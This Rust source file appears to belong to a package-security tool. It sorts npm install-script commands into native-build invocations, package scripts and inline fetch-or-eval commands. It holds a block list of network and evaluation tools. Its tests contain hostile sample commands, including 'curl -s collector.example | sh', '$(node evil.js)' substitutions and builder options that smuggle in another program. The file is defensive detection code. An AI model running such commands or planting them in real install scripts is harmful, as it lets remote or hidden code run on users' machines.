//! What kind of command a script is, by its text.

/// What kind of command it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Nature {
    /// Compiles native code, or fetches it by a tool made for that.
    Builder,
    /// Runs something of the package.
    OwnScript,
    /// The command itself fetches or evaluates, or starts another runtime than the one that
    /// installs: the text alone is enough to worry (INCIDENTS I25, I32, I45).
    Inline,
}

/// Native builders in common use, by the first word of the command.
pub(crate) const BUILDERS: &[&str] = &[
    "node-gyp",
    "node-gyp-build",
    "node-gyp-build-optional-packages",
    "node-pre-gyp",
    "prebuild-install",
    "cmake-js",
    "napi-postinstall",
    "pkg-prebuilds-verify",
];

/// Those of them that fetch what was built elsewhere, from where the manifest says.
const FETCHING: &[&str] = &["node-pre-gyp", "prebuild-install"];

/// What builders are told to do. Any other word is a file, a folder or a command, which some of them run.
const VERBS: &[&str] = &[
    "build",
    "clean",
    "compile",
    "configure",
    "info",
    "install",
    "rebuild",
    "reconfigure",
    "reinstall",
];

/// Options of builders that choose between builds, or say how much to print, and that take a value.
const VALUED: &[&str] = &[
    "a",
    "abi",
    "arch",
    "B",
    "C",
    "config",
    "directory",
    "G",
    "generator",
    "j",
    "jobs",
    "l",
    "libc",
    "log-level",
    "loglevel",
    "msvs_version",
    "n",
    "napi",
    "openssl-fips",
    "openssl_fips",
    "platform",
    "r",
    "runtime",
    "runtime-version",
    "t",
    "tag-prefix",
    "target",
    "target_arch",
    "target_libc",
    "target_platform",
    "thin",
    "toolset",
    "v",
    "acl",
];

/// The same that stand alone.
const FLAGS: &[&str] = &[
    "D",
    "build-from-source",
    "build_from_source",
    "compile",
    "d",
    "debug",
    "download",
    "fallback-to-build",
    "force",
    "no-rollback",
    "prefer-clang",
    "prefer-make",
    "quick",
    "quiet",
    "release",
    "silent",
    "silly",
    "strip",
    "update-binary",
    "verbose",
];

/// Words that fetch, evaluate, or bring another runtime.
const INLINE: &[&str] = &[
    "curl",
    "wget",
    "powershell",
    "pwsh",
    "rundll32",
    "mshta",
    "certutil",
    "bun",
    "bunx",
    "deno",
    "npx",
    "eval",
    "base64",
    "python",
    "python3",
    "perl",
    "ruby",
    "nc",
];

/// The words of a command, whatever stands between them.
pub(crate) fn words(command: &str) -> impl Iterator<Item = &str> {
    command
        .split(|c: char| c.is_whitespace() || "|&;()<>\"'`$={}".contains(c))
        .filter(|word| !word.is_empty())
}

/// The program that a word names, without its folder.
pub(crate) fn program(word: &str) -> String {
    let file = word.rsplit(['/', '\\']).next().unwrap_or(word);
    file.strip_suffix(".exe")
        .unwrap_or(file)
        .to_ascii_lowercase()
}

/// Whether a command fetches what was built elsewhere, from where the manifest says.
pub(crate) fn fetches_builds(command: &str) -> bool {
    words(command).any(|word| FETCHING.contains(&program(word).as_str()))
}

impl Nature {
    pub(crate) fn of(command: &str) -> Self {
        let starts_inline = |tool: &str| {
            let mut rest = words(command).skip_while(|word| program(word) != tool);
            rest.next().is_some()
                && rest.take(3).any(|flag| {
                    matches!(
                        flag,
                        "-e" | "-c" | "-p" | "-pe" | "/c" | "--eval" | "--print" | "-r"
                    )
                })
        };
        if words(command)
            .any(|word| INLINE.contains(&program(word).as_str()) || word.contains("://"))
            || ["node", "sh", "bash", "zsh", "cmd"]
                .into_iter()
                .any(starts_inline)
        {
            return Self::Inline;
        }
        match only_builds(command) {
            true => Self::Builder,
            false => Self::OwnScript,
        }
    }
}

/// Whether every command of a list is a builder with usual arguments: `prebuild-install -r napi || node-gyp rebuild`.
/// Whatever a shell would take for more than words is more than that: substitutions, further lines, files that are
/// written or read, quotes.
fn only_builds(command: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || " \t-_.,=@/+:~^|&;".contains(c);
    // An option that is given nothing: `--openssl_fips=''`.
    let command = command.replace("''", "").replace("\"\"", "");
    let parts = command.split(['|', '&', ';']);
    let mut parts = parts.filter(|part| !part.trim().is_empty()).peekable();
    command.chars().all(is_plain) && parts.peek().is_some() && parts.all(is_build)
}

fn is_build(command: &str) -> bool {
    let mut words = command.split_whitespace().peekable();
    // With a folder before it, it may be a file of the package.
    let Some(builder) = words.next().filter(|word| BUILDERS.contains(word)) else {
        return false;
    };
    while let Some(word) = words.next() {
        let Some(option) = word.strip_prefix('-') else {
            if !is_usual_word(builder, word) {
                return false;
            }
            continue;
        };
        let option = option.strip_prefix('-').unwrap_or(option);
        let (name, value) = match option.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (option, None),
        };
        let is_valued = VALUED.contains(&name);
        let is_known = is_valued || FLAGS.contains(&name) || is_definition(builder, name);
        // Its value may be the next word.
        let value = value.or_else(|| words.next_if(|next| is_valued && !next.starts_with('-')));
        if !is_known || value.is_some_and(|value| !is_usual_value(name, value)) {
            return false;
        }
    }
    true
}

/// `cmake-js --CDNAME=value`: a variable of the build.
fn is_definition(builder: &str, name: &str) -> bool {
    let name = name.strip_prefix("CD").or_else(|| name.strip_prefix('D'));
    builder == "cmake-js"
        && name.is_some_and(|name| {
            let tools = [
                "COMPILER",
                "LAUNCHER",
                "PROGRAM",
                "TOOLCHAIN",
                "COMMAND",
                "RULE",
            ];
            let name = name.to_ascii_uppercase();
            !name.is_empty() && !tools.iter().any(|tool| name.contains(tool))
        })
}

/// A word of a builder that is no option.
fn is_usual_word(builder: &str, word: &str) -> bool {
    match builder {
        // The package whose build it looks for, and its version.
        "napi-postinstall" => !word.contains(['\\', ':', '=']) && !word.starts_with(['.', '/']),
        // Names its options by a file, which analysis follows.
        "pkg-prebuilds-verify" => word.ends_with("binding-options.js"),
        // Runs it.
        "node-gyp-build" | "node-gyp-build-optional-packages" | "prebuild-install" => false,
        _ => VERBS.contains(&word),
    }
}

/// A value that is neither a path nor an address. Tags begin with a package's name, folders to build in are followed.
fn is_usual_value(name: &str, value: &str) -> bool {
    match name {
        "tag-prefix" => !value.contains([':', '\\']),
        "C" | "directory" => !value.contains(':') && !value.starts_with(['/', '~']),
        _ => !value.contains(['/', '\\', ':', '~']),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_apart_by_what_they_do() {
        for (command, nature) in [
            ("node-gyp rebuild", Nature::Builder),
            ("prebuild-install || node-gyp rebuild", Nature::Builder),
            ("node-gyp-build", Nature::Builder),
            ("node install.js", Nature::OwnScript),
            ("node-gyp rebuild && node setup.js", Nature::OwnScript),
            ("node -e \"require('./x')\"", Nature::Inline),
            ("curl -s collector.example | sh", Nature::Inline),
            ("bun run index.js", Nature::Inline),
            ("bash -c ./x.sh", Nature::Inline),
            ("sh ./build.sh", Nature::OwnScript),
        ] {
            assert_eq!(Nature::of(command), nature, "{command}");
        }
    }

    #[test]
    fn a_builder_with_usual_arguments_only_builds() {
        for command in [
            "node-gyp rebuild",
            "  node-gyp  configure build --release -j 4",
            "node-gyp rebuild -j max --loglevel=verbose",
            "node-gyp rebuild --directory=src/native",
            "node-gyp-build",
            "node-gyp-build-optional-packages",
            "node-pre-gyp install --fallback-to-build",
            "node-pre-gyp install --fallback-to-build=false --update-binary",
            "node-pre-gyp install --build-from-source --target_arch=arm64",
            "prebuild-install || node-gyp rebuild",
            "prebuild-install -r napi || node-gyp rebuild",
            "prebuild-install --runtime napi --tag-prefix @left/lib@ || cmake-js compile",
            "prebuild-install --runtime=electron --target=28.0.0; node-gyp rebuild",
            "node-gyp rebuild --openssl_fips=''",
            "cmake-js compile --runtime-version 6 --CDLEFT_BUILD=ON -l verbose",
            "cmake-js rebuild -G Ninja -a x64",
            "napi-postinstall left-resolver 1.7.2 check",
            "pkg-prebuilds-verify ./binding-options.js || cmake-js compile",
        ] {
            assert_eq!(Nature::of(command), Nature::Builder, "{command}");
        }
    }

    #[test]
    fn a_builder_that_may_run_something_else_is_a_script() {
        for command in [
            "",
            "node-gyp rebuild $(node evil.js)",
            "node-gyp rebuild `node evil.js`",
            "node-gyp rebuild\nnode evil.js",
            "node-gyp rebuild $npm_package_config_x",
            "node-gyp rebuild %npm_package_config_x%",
            "node-gyp-build 'node evil.js'",
            "node-gyp-build evil",
            "prebuild-install evil",
            "./node-gyp rebuild",
            "tools/prebuild-install || node-gyp rebuild",
            "./node_modules/.bin/node-gyp rebuild",
            "node-gyp rebuild --python=./evil.sh",
            "node-gyp rebuild --python evil",
            "node-gyp rebuild --pyth=evil",
            "node-gyp rebuild --make=./evil.sh",
            "node-gyp rebuild --nodedir=./evil",
            "node-gyp rebuild --devdir=evil",
            "node-gyp rebuild --target=./evil",
            "node-gyp rebuild -C /tmp/x",
            "node-gyp rebuild -- -f evil",
            "node-gyp rebuild > lib/x.js",
            "cmake-js compile -c ./evil",
            "cmake-js compile --CDCMAKE_CXX_COMPILER=evil",
            "npm_config_python=./evil node-gyp rebuild",
            "napi-postinstall ./evil",
        ] {
            assert_eq!(Nature::of(command), Nature::OwnScript, "{command}");
        }
    }

    #[test]
    fn builders_that_fetch_are_known() {
        for (command, fetches) in [
            ("prebuild-install -r napi || node-gyp rebuild", true),
            ("node ./node_modules/.bin/node-pre-gyp install", true),
            ("node-gyp rebuild", false),
            ("node-gyp-build", false),
        ] {
            assert_eq!(fetches_builds(command), fetches, "{command}");
        }
    }
}
